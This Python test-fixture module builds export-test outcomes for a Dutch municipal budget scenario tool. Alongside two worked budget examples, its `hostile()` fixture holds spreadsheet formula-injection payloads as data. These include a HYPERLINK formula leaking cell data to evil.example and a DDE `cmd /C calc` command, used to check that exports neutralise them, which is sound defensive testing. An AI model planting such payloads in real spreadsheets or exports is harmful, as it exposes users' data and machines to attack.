"""Outcomes built in code for the export tests: each shows its own baseline and scenario.

- `youth_care()`: the §8.4 worked example (five segments, p x q), one structural booking on programme 6;
- `motie_fund()`: the §10.3 worked example, €500.000 a year in 2025-2026 paid from the algemene reserve;
- `hostile()`: measure names and descriptions a spreadsheet would execute (=, +, -, @, tab, CR) if written
  naively, plus a scenario name that starts with '='.
"""

from __future__ import annotations

from hengelo_scenario.baseline.model import Aard, Soort
from hengelo_scenario.engine import run
from hengelo_scenario.levers.measures import Measure
from hengelo_scenario.records import replace
from hengelo_scenario.scenario.model import Origin, Scenario
from tests.engine.builders import YEARS, I, S, d
from tests.engine.test_worked_examples import motie_baseline, youth_care_baseline, youth_care_scenario

K = 1000
EPOCH = "1735689600"  # 2025-01-01 00:00:00 UTC
FIXED = {"SOURCE_DATE_EPOCH": EPOCH}

RESOLVED_TEXT = "name: {name}\nmeasures:\n- name: {first}\n  programma: '6'\n"


def _with_files(scenario: Scenario, file: str) -> Scenario:
    return replace(
        scenario,
        source=file,
        sha256="ab" * 32,
        resolved_text=RESOLVED_TEXT.format(name=scenario.name, first=scenario.measures[0].name)
        if scenario.measures
        else f"name: {scenario.name}\n",
    )


def youth_care():
    baseline = replace(youth_care_baseline(), source="jeugd-basis.xlsx", sha256="cd" * 32)
    scenario = _with_files(replace(youth_care_scenario(), name="Jeugdhulp duurder"), "jeugd.yaml")
    return run(baseline, scenario), scenario, baseline


def motie_measure(amounts=(500, 500, 0, 0), aard: Aard = I) -> Measure:
    return Measure(
        "Fonds X (motie M15)",
        "Fonds voor leefbare wijken",
        "6",
        Soort.LAST,
        aard,
        d(*(a * K for a in amounts)),
        dekking="Algemene reserve",
        origin=Origin("motie.yaml", 4, "measures[0]"),
    )


def motie_fund():
    baseline = replace(motie_baseline(), source="motie-basis.xlsx", sha256="ef" * 32)
    scenario = _with_files(Scenario(name="Motie fonds X", years=YEARS, measures=(motie_measure(),)), "motie.yaml")
    return run(baseline, scenario), scenario, baseline


HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)


def hostile():
    origin = Origin("boos.yaml", 2, "measures")
    measures = tuple(
        Measure(name, "=cmd|' /C calc'!A0", "1", Soort.BAAT, S, d(1_000 * (i + 1)), origin=origin)
        for i, name in enumerate(HOSTILE_NAMES)
    )
    baseline = replace(motie_baseline(), source="=basis.xlsx", sha256="01" * 32)
    scenario = _with_files(Scenario(name="=1+1 scenario", years=YEARS, measures=measures), "-boos.yaml")
    return run(baseline, scenario), scenario, baseline
